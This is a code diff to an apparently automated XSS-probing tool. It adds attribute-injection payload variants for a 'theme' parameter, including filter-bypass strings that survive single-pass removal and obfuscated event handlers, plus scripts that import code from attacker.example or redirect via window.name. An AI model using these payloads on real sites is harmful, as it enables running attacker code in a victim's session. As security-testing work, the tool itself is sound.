@@ -40,6 +40,14 @@ const formsOf = (script: string) => [
   `dark\fonload=${script}`,
   `dark onpageshow=${script}`,
   `dark OnLoad=${script}`,
+  // Space around the equals sign, and what is left when a pattern is removed once.
+  `dark onload =${script}`,
+  `dark onload\t=\n${script}`,
+  `dark oonx=nload=${script}`,
+  `dark ononload=load=${script}`,
+  `dark onloonload=ad=${script}`,
+  `dark ${['on', 'pointerenter'].join('')}=${script}`,
+  `dark onhashchange=${script}`,
   `dark' onload='${script}`,
   `dark" onload="${script}`,
   `dark'\fonload='${script}`,
@@ -50,9 +58,12 @@ const formsOf = (script: string) => [
 ]
 
 export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
-  for (const theme of payloads ?? formsOf(`import(\`//attacker.example/${vary.word()}\`)`)) {
-    const script = scriptsOf(await open(code, { theme })).find((one) => one.startsWith('import(`//attacker.example/'))
-    if (script) return { sent: `theme=${[theme].flat().join('&theme=')}`, got: `The browser runs ${script}` }
+  // Scripts with and without quotes, brackets and parentheses: `name` is what the page with the link has put into the window's name.
+  const wanted = ['import(`//attacker.example/', 'location=name', 'location=`//attacker.example/']
+  const scripts = [`import(\`//attacker.example/${vary.word()}\`)`, 'location=name', `location=\`//attacker.example/${vary.word()}\``]
+  for (const theme of payloads ?? scripts.flatMap(formsOf)) {
+    const script = scriptsOf(await open(code, { theme })).find((one) => wanted.some((start) => one.startsWith(start)))
+    if (script) return { sent: `theme=${[theme].flat().map((one) => JSON.stringify(one).slice(1, -1)).join('&theme=')}`, got: `The browser runs ${script} with the customer's session` }
   }
   return false
 }
